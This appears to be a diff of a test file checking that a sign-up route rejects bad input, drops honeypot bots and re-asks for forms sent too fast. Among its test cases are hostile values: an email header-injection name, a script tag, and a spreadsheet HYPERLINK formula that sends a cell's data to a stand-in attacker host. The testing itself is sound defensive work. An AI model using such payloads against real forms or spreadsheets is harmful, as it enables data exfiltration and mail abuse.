@@ -1,10 +1,12 @@
 /**
- * Bad input to the sign-up route gets a clear, specific answer and changes nothing; bots get the
- * same answer as people and are dropped. The table goes through the real site server and CMS.
+ * Bad input to the sign-up route gets a clear, specific answer at the edge and changes nothing;
+ * bots get the same answer as people and are dropped; a form sent too fast is asked for again.
+ * The table goes through the real site server (its journal) and CMS.
  */
 import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
 
 import { subscriber } from './cmsAdmin'
+import { journalOf } from './journal'
 import { serveBuild } from './serveBuild'
 
 let site: Awaited<ReturnType<typeof serveBuild>>
@@ -17,8 +19,15 @@ beforeAll(async () => {
 // a count of all subscribers would race with them.
 afterAll(() => site?.stop())
 
-const form = (fields: Record<string, string>) => new URLSearchParams({ renderedAt: '1', ...fields }).toString()
+const form = (fields: Record<string, string>) => new URLSearchParams(fields).toString()
 const FORM = 'application/x-www-form-urlencoded'
+
+/** Neither in the site server's journal nor in the CMS. */
+async function expectKeptNowhere(email: string) {
+  const key = email.toLowerCase()
+  expect(journalOf(site.dataDir).filter((signup) => signup.email.toLowerCase() === key)).toEqual([])
+  if (!/[\r\n\u0000]/.test(email)) expect(await subscriber(email)).toBeUndefined()
+}
 
 type Case = {
   name: string
@@ -65,13 +74,14 @@ const CASES: Case[] = [
   { name: 'header injection in a name', ...email('inject-name@reader.example', { firstName: 'Dana\r\nBcc: victim@evil.example' }), status: 400, message: { firstName: /cannot be used/ } },
   { name: 'an invisible character in a name', ...email('invisible@reader.example', { lastName: 'Le\u200bvi' }), status: 400, message: { lastName: /cannot be used/ } },
   { name: 'a postal code over 12 characters', ...email('postal-long@reader.example', { postalCode: '1234567890123' }), status: 400, message: { postalCode: /at most 12 characters/ } },
+  { name: 'a name a spreadsheet would run as a formula', ...email('formula@reader.example', { firstName: '=HYPERLINK("https://evil.example/?"&A3,"Click")' }), status: 400, message: { firstName: /cannot start with =, \+, - or @/ } },
   { name: 'markup in a postal code', ...email('postal-markup@reader.example', { postalCode: '<script>' }), status: 400, message: { postalCode: /only contain letters, digits, spaces and hyphens/ } },
   { name: 'several bad fields at once', ...email('x', { firstName: 'N'.repeat(200), postalCode: '$$$' }), status: 400, message: { email: /like name@/, firstName: /at most 100/, postalCode: /only contain/ } },
   { name: 'JSON instead of a form', body: JSON.stringify({ email: 'json@reader.example' }), type: 'application/json', status: 415, message: /Send the sign-up as a form/, email: 'json@reader.example' },
   { name: 'plain text instead of a form', body: 'email=text@reader.example', type: 'text/plain', status: 415, message: /Send the sign-up as a form/, email: 'text@reader.example' },
   { name: 'an oversized body', body: form({ email: 'big@reader.example', firstName: 'x'.repeat(5000) }), type: FORM, status: 413, message: /too large/, email: 'big@reader.example' },
   { name: 'a file upload', body: multipartWithFile(), status: 400, message: /cannot carry files/, email: 'file@reader.example' },
-  { name: 'a field sent twice', body: 'email=twice@reader.example&email=other@reader.example&renderedAt=1', type: FORM, status: 400, message: /"email" was sent twice/, email: 'twice@reader.example' },
+  { name: 'a field sent twice', body: 'email=twice@reader.example&email=other@reader.example', type: FORM, status: 400, message: /"email" was sent twice/, email: 'twice@reader.example' },
 ]
 
 async function post(body: BodyInit, type = typeof body === 'string' ? FORM : undefined) {
@@ -98,18 +108,33 @@ describe('the sign-up route', () => {
     } else {
       for (const [field, pattern] of Object.entries(message)) expect(answer.errors?.[field], field).toMatch(pattern)
     }
-    if (email?.trim() && !/[\r\n\u0000]/.test(email)) expect(await subscriber(email.trim())).toBeUndefined()
+    if (email?.trim()) await expectKeptNowhere(email.trim())
   })
 
-  // Bodies made when the test runs: a form's time stamp must be fresh when it is sent.
-  it.each([
-    ['a filled honeypot', () => form({ email: 'honeypot@reader.example', website: 'https://spam.example' }), 'honeypot@reader.example'],
-    ['a form sent within 3 s', () => new URLSearchParams({ email: 'hasty@reader.example', renderedAt: String(Date.now()) }).toString(), 'hasty@reader.example'],
-  ])('answers %s exactly like a real sign-up, and drops it', async (_, body, address) => {
-    const response = await post(body(), FORM)
+  it('answers a filled honeypot exactly like a real sign-up, and keeps nothing', async () => {
+    const response = await post(form({ email: 'honeypot@reader.example', website: 'https://spam.example' }), FORM)
     expect(response.status).toBe(200)
-    expect(await response.json()).toEqual({ ok: true, message: 'Almost done: check your inbox and follow the link in our email to confirm.' })
-    expect(await subscriber(address)).toBeUndefined()
+    expect(await response.json()).toEqual({ ok: true, message: expect.stringContaining('we have sent an email to honeypot@reader.example') })
+    await expectKeptNowhere('honeypot@reader.example')
+  })
+
+  it('accepts a sign-up, telling the person where the email went and what to do if it does not come', async () => {
+    const response = await post(form({ email: 'Accepted@Reader.Example', firstName: 'Ada' }), FORM)
+    expect(response.status).toBe(200)
+    const answer = (await response.json()) as { ok: boolean; message: string }
+    expect(answer.ok).toBe(true)
+    expect(answer.message).toMatch(/we have sent an email to Accepted@reader\.example\..*spam folder.*sign up again/)
+    await expect.poll(() => subscriber('accepted@reader.example'), { timeout: 20_000 }).toMatchObject({ status: 'pending' })
+  })
+
+  it('asks again for a form sent within 3 s of being shown, keeping nothing until it is sent again', async () => {
+    const fast = await post(form({ email: 'hasty@reader.example', fillMs: '900' }), FORM)
+    expect(fast.status).toBe(409)
+    expect(await fast.json()).toEqual({ ok: false, again: true, message: expect.stringMatching(/One more step: .*press “Sign up” again/) })
+    await expectKeptNowhere('hasty@reader.example')
+    const again = await post(form({ email: 'hasty@reader.example', fillMs: '4200' }), FORM)
+    expect(again.status).toBe(200)
+    await expect.poll(() => subscriber('hasty@reader.example'), { timeout: 20_000 }).toMatchObject({ status: 'pending' })
   })
 
   it('without JavaScript, shows the form again with the input kept and the error tied to its field', async () => {
@@ -125,5 +150,8 @@ describe('the sign-up route', () => {
     expect(html).toContain('value="Dana"')
     expect(html).toMatch(/aria-invalid="true" aria-describedby="wire-page-email-error"/)
     expect(html).toMatch(/id="wire-page-email-error"[^>]*>Enter an email address like name@example\.org\./)
+    // One heading, and the first field in error takes focus when the page opens.
+    expect(html.match(/<h1[\s>]/g)).toHaveLength(1)
+    expect(html).toMatch(/<input id="wire-page-email"[^>]*autofocus/)
   })
 })
